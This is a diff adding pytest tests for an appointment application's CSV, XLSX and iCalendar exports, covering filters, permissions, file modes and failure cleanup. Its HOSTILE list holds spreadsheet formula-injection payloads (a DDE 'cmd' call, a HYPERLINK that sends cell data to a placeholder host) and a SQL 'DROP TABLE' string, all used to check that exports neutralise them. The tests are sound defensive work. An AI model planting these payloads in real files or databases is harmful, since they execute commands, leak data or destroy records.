@@ -1,0 +1,412 @@
+"""Lists leave the practice whole, harmless, and only with who may take them."""
+
+from __future__ import annotations
+
+import re
+import resource
+import stat
+from contextlib import contextmanager
+from dataclasses import replace
+from datetime import date
+from typing import TYPE_CHECKING, Any
+
+import icalendar
+import phonenumbers
+import pytest
+
+from desk_app.domain.appointment import Status
+from desk_app.domain.exports import (
+    STANDING,
+    Delimiter,
+    ExportWish,
+    FileFormat,
+    Selection,
+    Subject,
+)
+from desk_app.domain.progress import CancelToken, Progress, Work
+from desk_app.domain.spreadsheet import is_formula, typed_field
+from desk_app.errors import Cancelled, Invalid, NotAllowed
+from desk_app.services.exporting import exports as exporting
+from desk_app.services.exporting.exports import Exports
+from tests import factories
+from tests.desks import Desks
+from tests.services.exporting import opened
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from desk_app.db.session import Sessions
+    from desk_app.domain.appointment import BookingRequest
+    from desk_app.services.booking import Booking
+    from tests.factories import Practice
+
+# A name is one line, notes are several; the database takes all of these.
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"Anna")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "＝1+1",
+    "'=1+1",
+    '"; DROP TABLE client; --',
+    'a,b;c|"d"',
+    "ends with a backslash\\",
+    "Łucja 江 Ωmega 👩‍⚕️",
+    "<b>&amp;</b>",
+    "https://x.example",
+    "_x0041_",
+    "00123",
+    "1e5",
+    "TRUE",
+]
+
+
+@pytest.fixture
+def exports(sessions: Sessions) -> Exports:
+    return Exports(sessions)
+
+
+@pytest.fixture
+def wish(tmp_path: Path) -> ExportWish:
+    return ExportWish(Subject.CLIENTS, FileFormat.CSV, tmp_path)
+
+
+@pytest.fixture
+def two_visits(booking: Booking, practice: Practice) -> None:
+    booking.book(at_number(practice, 0))
+    booking.book(at_number(practice, 1))
+
+
+@pytest.fixture
+def small_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(exporting, "PIECE", 1)
+
+
+def runs(cell: str) -> bool:
+    """Say whether a spreadsheet computes a cell."""
+    return cell.lstrip()[:1] in {*"=+-@＝＋－＠"} if cell.strip() else False
+
+
+def at_number(practice: Practice, number: int, **changes: Any) -> BookingRequest:
+    """Ask for the first, second … time of tomorrow."""
+    start = practice.at(9) + number * factories.minutes(40)
+    return replace(practice.request_at(start), **changes)
+
+
+def of_appointments(wish: ExportWish, format_: FileFormat) -> ExportWish:
+    return replace(wish, subject=Subject.APPOINTMENTS, format=format_)
+
+
+@pytest.mark.parametrize("delimiter", Delimiter)
+def test_a_csv_file_gives_back_what_was_typed_and_computes_nothing(
+    sessions: Sessions, exports: Exports, wish: ExportWish, delimiter: Delimiter
+) -> None:
+    for text in HOSTILE:
+        factories.client(sessions, name=text, notes=f"{text}\nsecond\tline")
+    done = exports.export(replace(wish, delimiter=delimiter))
+    (path,) = done.files
+    rows = opened.csv_rows(path, delimiter)
+    assert {typed_field(row["Name"]) for row in rows} == set(HOSTILE)
+    notes = {typed_field(row["Notes"]) for row in rows}
+    assert notes == {f"{text}\nsecond\tline" for text in HOSTILE}
+    assert not [cell for row in rows for cell in row.values() if runs(cell)]
+    octets = path.read_bytes()
+    assert octets.startswith(b"\xef\xbb\xbf")
+    assert octets.count(b"\r\n") == len(rows) + 1 == done.rows + 1
+
+
+def test_no_cell_begins_within_another_delimiter(
+    sessions: Sessions, exports: Exports, wish: ExportWish
+) -> None:
+    factories.client(sessions, name="Anna;=1+1", notes="x\t=1+1\n=1+1")
+    (path,) = exports.export(wish).files
+    text = path.read_text(encoding="utf-8-sig")
+    for cell in re.split(r"[,;\t\r\n]", text):
+        assert not runs(cell.strip('"'))
+
+
+def test_phone_numbers_stay_text_that_can_be_rung(
+    sessions: Sessions, exports: Exports, wish: ExportWish
+) -> None:
+    numbers = {"+4930901820", "+12125550123", "+441632960961", "+8613912345678", ""}
+    for number in numbers:
+        factories.client(sessions, phone=number)
+    (path,) = exports.export(wish).files
+    cells = {row["Phone"] for row in opened.csv_rows(path)}
+    assert "(+49) 30 901820" in cells
+    style = phonenumbers.PhoneNumberFormat.E164
+    read = {
+        phonenumbers.format_number(phonenumbers.parse(c), style) for c in cells if c
+    }
+    assert read == numbers - {""}
+    (book,) = exports.export(replace(wish, format=FileFormat.XLSX)).files
+    (sheet,) = opened.sheets(book)
+    shown = [row["Phone"] for row in sheet.rows if "Phone" in row]
+    assert {cell.kind for cell in shown} == {"inlineStr"}
+    assert "+49 30 901820" in {cell.text for cell in shown}
+
+
+def test_a_workbook_has_text_as_text_and_dates_as_dates(
+    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
+    booking: Booking,
+) -> None:  # fmt: skip
+    factories.setting(sessions, "timezone", factories.BERLIN)
+    for number, text in enumerate(HOSTILE[:8]):
+        booking.book(at_number(practice, number, notes=text))
+    done = exports.export(of_appointments(wish, FileFormat.XLSX))
+    (sheet,) = opened.sheets(done.files[0])
+    notes = [row["Notes"] for row in sheet.rows]
+    assert [cell.text for cell in notes] == HOSTILE[:8]
+    assert not any(cell.is_formula for row in sheet.rows for cell in row.values())
+    assert [cell.is_quoted for cell in notes] == [is_formula(t) for t in HOSTILE[:8]]
+    first = sheet.rows[0]
+    assert (first["Date"].kind, first["Date"].text) == ("n", "46084")
+    assert (first["Start"].kind, float(first["Start"].text)) == ("n", 9 / 24)
+    assert (first["Minutes"].text, first["Price"].text) == ("30", "60")
+    assert (first["Client"].text, first["Time zone"].text) == (
+        "Anna Weiß",
+        factories.BERLIN,
+    )
+    for needed in ('state="frozen"', "<autoFilter", "<cols>"):
+        assert needed in sheet.xml
+
+
+def test_appointments_are_chosen_by_day_provider_service_and_status(
+    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
+    booking: Booking,
+) -> None:  # fmt: skip
+    kept = booking.book(at_number(practice, 0))
+    gone = booking.book(at_number(practice, 1))
+    booking.cancel(factories.cancellation(gone))
+    day = factories.TOMORROW
+    cases = {
+        Selection(): 1,
+        Selection(statuses=tuple(Status)): 2,
+        Selection(statuses=(Status.CANCELLED,)): 1,
+        Selection(first=day, last=day): 1,
+        Selection(first=date(2026, 3, 4)): 0,
+        Selection(last=date(2026, 3, 2)): 0,
+        Selection(provider_ids=(practice.provider_id,)): 1,
+        Selection(provider_ids=(practice.provider_id + 1,)): 0,
+        Selection(services=("Check-up", "Other")): 1,
+        Selection(services=("Other",)): 0,
+    }
+    wish = of_appointments(wish, FileFormat.CSV)
+    assert {c: exports.count(replace(wish, selection=c)) for c in cases} == cases
+    (path,) = exports.export(replace(wish, selection=Selection(first=day))).files
+    (row,) = opened.csv_rows(path)
+    assert row["Appointment number"] == str(kept.appointment_id)
+    assert (row["Date"], row["Status"]) == ("2026-03-03", "CONFIRMED")
+
+
+def test_a_calendar_is_read_by_others_as_it_was_meant(
+    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice,
+    booking: Booking,
+) -> None:  # fmt: skip
+    ((place,),) = factories.rows(
+        sessions,
+        "SELECT value #>> '{}' FROM practice_setting WHERE name = 'practice_id'",
+    )
+    note = 'Fasting; bring, "all"\\ of it\nand 江 ' + "Ω" * 90
+    booked = booking.book(at_number(practice, 0, notes=note))
+    booked = booking.confirm(
+        factories.confirmation(booking.book(at_number(practice, 1, pending=True)))
+    )
+    wish = of_appointments(wish, FileFormat.ICALENDAR)
+    done = exports.export(wish)
+    assert done.rows == 2
+    first, second = opened.events(done.files[0])
+    assert first["DESCRIPTION"] == note
+    assert first["SUMMARY"] == "Anna Weiß – Check-up"
+    assert second["UID"] == f"appointment-{booked.appointment_id}@{place}"
+    assert second["SEQUENCE"] == str(booked.version) == "2"
+    assert second["DTSTAMP"] == second["LAST-MODIFIED"] >= second["CREATED"]
+    calendar = icalendar.Calendar.from_ical(done.files[0].read_bytes())
+    read = [(e.decoded("dtstart"), e.decoded("dtend")) for e in calendar.walk("VEVENT")]
+    assert read[1] == (booked.start, booked.end)
+    assert str(calendar.walk("VEVENT")[0]["description"]) == note
+    again = exports.export(wish)
+    assert again.files[0].name.endswith("-2.ics")
+    assert opened.events(again.files[0]) == [first, second]
+
+
+def test_a_calendar_says_who_was_cancelled_and_names_nobody_if_so_wished(
+    exports: Exports, wish: ExportWish, practice: Practice, booking: Booking
+) -> None:
+    booked = booking.book(at_number(practice, 0, notes="private"))
+    booking.cancel(factories.cancellation(booked))
+    wish = of_appointments(wish, FileFormat.ICALENDAR)
+    assert opened.events(exports.export(wish).files[0]) == []
+    chosen = Selection(statuses=(*STANDING, Status.CANCELLED))
+    wish = replace(wish, selection=chosen, names_clients=False)
+    (path,) = exports.export(wish).files
+    (event,) = opened.events(path)
+    assert (event["STATUS"], event["SUMMARY"]) == ("CANCELLED", "Check-up")
+    assert "Anna" not in path.read_text()
+    assert "private" not in path.read_text()
+
+
+def test_the_set_up_is_three_files_or_three_sheets(
+    exports: Exports, wish: ExportWish, practice: Practice
+) -> None:
+    wish = replace(wish, subject=Subject.SETUP)
+    done = exports.export(wish)
+    assert [path.name.split("-", 5)[-1] for path in done.files] == [
+        "providers.csv",
+        "services.csv",
+        "hours.csv",
+    ]
+    assert done.rows == exports.count(wish) == 1 + 1 + 7
+    monday = opened.csv_rows(done.files[2])[0]
+    assert (monday["Weekday"], monday["From"], monday["Until"]) == (
+        "Monday",
+        "09:00",
+        "17:00",
+    )
+    (book,) = exports.export(replace(wish, format=FileFormat.XLSX)).files
+    assert [s.name for s in opened.sheets(book)] == [
+        "Providers",
+        "Services",
+        "Weekly hours",
+    ]
+
+
+def test_who_waits_is_exported(
+    sessions: Sessions, exports: Exports, wish: ExportWish, practice: Practice
+) -> None:
+    factories.rows(
+        sessions,
+        "INSERT INTO waitlist_entry (client_id, service_name, weekdays, from_time)"
+        " VALUES (:client, 'Check-up', '04', '13:00')",
+        client=practice.client_id,
+    )
+    (path,) = exports.export(replace(wish, subject=Subject.WAITING_LIST)).files
+    (row,) = opened.csv_rows(path)
+    assert (row["Client"], row["Service"]) == ("Anna Weiß", "Check-up")
+    assert (row["Weekdays"], row["From time"]) == ("Monday, Friday", "13:00")
+
+
+def test_an_empty_practice_has_empty_files(exports: Exports, wish: ExportWish) -> None:
+    for format_ in (FileFormat.CSV, FileFormat.XLSX):
+        done = exports.export(replace(wish, format=format_))
+        assert (done.rows, len(done.files)) == (0, 1)
+    assert opened.sheets(done.files[0])[0].rows == []
+
+
+def test_nobody_erased_or_merged_is_on_a_list(
+    sessions: Sessions, exports: Exports, wish: ExportWish
+) -> None:
+    kept = factories.client(sessions, name="Kept")
+    gone = factories.client(sessions, name="Gone", phone="")
+    factories.rows(
+        sessions,
+        "UPDATE client SET is_active = false, merged_into = :kept"
+        " WHERE client_id = :gone",
+        kept=kept,
+        gone=gone,
+    )
+    (path,) = exports.export(wish).files
+    assert [row["Name"] for row in opened.csv_rows(path)] == ["Kept"]
+
+
+def test_only_who_exports_may_open_the_file_and_nothing_is_overwritten(
+    exports: Exports, wish: ExportWish
+) -> None:
+    first, second = (exports.export(wish).files[0] for _ in range(2))
+    assert stat.S_IMODE(first.stat().st_mode) == 0o600
+    assert (first.stem + "-2", len(list(wish.folder.iterdir()))) == (second.stem, 2)
+
+
+@pytest.mark.parametrize("format_", FileFormat)
+@pytest.mark.usefixtures("two_visits", "small_pieces")
+def test_a_cancelled_export_leaves_nothing_behind(
+    sessions: Sessions, exports: Exports, wish: ExportWish, format_: FileFormat
+) -> None:
+    token, told = CancelToken(), []
+
+    def hear(progress: Progress) -> None:
+        told.append(progress)
+        if progress.done:
+            token.cancel()
+
+    with pytest.raises(Cancelled):
+        exports.export(of_appointments(wish, format_), Work(hear, token))
+    assert told == [Progress(0, 2, "Writing"), Progress(1, 2, "Writing")]
+    assert list(wish.folder.iterdir()) == []
+    assert factories.rows(sessions, "SELECT count(*) FROM transfer") == [(0,)]
+
+
+def test_a_folder_that_takes_nothing_is_said_in_a_sentence(
+    exports: Exports, wish: ExportWish, tmp_path: Path
+) -> None:
+    with pytest.raises(Invalid, match="no longer there") as refused:
+        exports.export(replace(wish, folder=tmp_path / "gone"))
+    assert refused.value.field == "folder"
+
+
+@contextmanager
+def hardly_any_room() -> Iterator[None]:
+    """Let no file of this process grow past a hundred kilobytes."""
+    before = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, before[1]))
+    try:
+        yield
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, before)
+
+
+@pytest.mark.parametrize("format_", [FileFormat.CSV, FileFormat.XLSX])
+def test_a_full_disk_leaves_nothing_behind(
+    sessions: Sessions, exports: Exports, wish: ExportWish, format_: FileFormat
+) -> None:
+    for number in range(40):
+        factories.client(sessions, name=f"Client {number}", notes="Ω" * 4000)
+    with hardly_any_room(), pytest.raises(Invalid, match="not enough room"):
+        exports.export(replace(wish, format=format_))
+    assert list(wish.folder.iterdir()) == []
+
+
+def test_managers_export_lists_and_a_provider_their_own_calendar(
+    database_url: str, tmp_path: Path
+) -> None:
+    with Desks(database_url) as desks:
+        practice = factories.open_practice(desks.owner)
+        other = factories.provider(desks.owner, name="Dr Other")
+        factories.rows(desks.owner, VISITS, mine=practice.provider_id, other=other,
+                       client=practice.client_id, service=practice.service_id,
+                       theirs=factories.service(desks.owner, other))  # fmt: skip
+        lists = ExportWish(Subject.APPOINTMENTS, FileFormat.CSV, tmp_path)
+        calendar = replace(lists, format=FileFormat.ICALENDAR)
+        assert Exports(desks.manager()).export(lists).rows == 2
+        provider = Exports(desks.provider(practice.provider_id))
+        assert provider.export(calendar).rows == 1
+        own = (other, practice.provider_id)
+        assert provider.count(replace(calendar, selection=Selection(provider_ids=own)))
+        for who, wish in (
+            (provider, lists),
+            (provider, replace(lists, subject=Subject.CLIENTS)),
+            (Exports(desks.receptionist()), lists),
+            (Exports(desks.receptionist()), calendar),
+        ):
+            with pytest.raises(NotAllowed):
+                who.export(wish)
+        written = factories.rows(
+            desks.owner, "SELECT kind, by, rows FROM transfer ORDER BY transfer_id"
+        )
+        assert [(kind, rows) for kind, _, rows in written] == [
+            ("EXPORT_APPOINTMENTS", 2),
+            ("EXPORT_CALENDAR", 1),
+        ]
+    assert len(list(tmp_path.iterdir())) == 2
+
+
+VISITS = """
+    INSERT INTO appointment (provider_id, client_id, service_id, start_time, end_time,
+        status, booked_via)
+    VALUES (:mine, :client, :service, '2031-01-01 9:00Z', '2031-01-01 9:30Z',
+            'CONFIRMED', 'DESK'),
+        (:other, :client, :theirs, '2031-01-01 9:00Z', '2031-01-01 9:30Z',
+            'CONFIRMED', 'DESK')
+"""
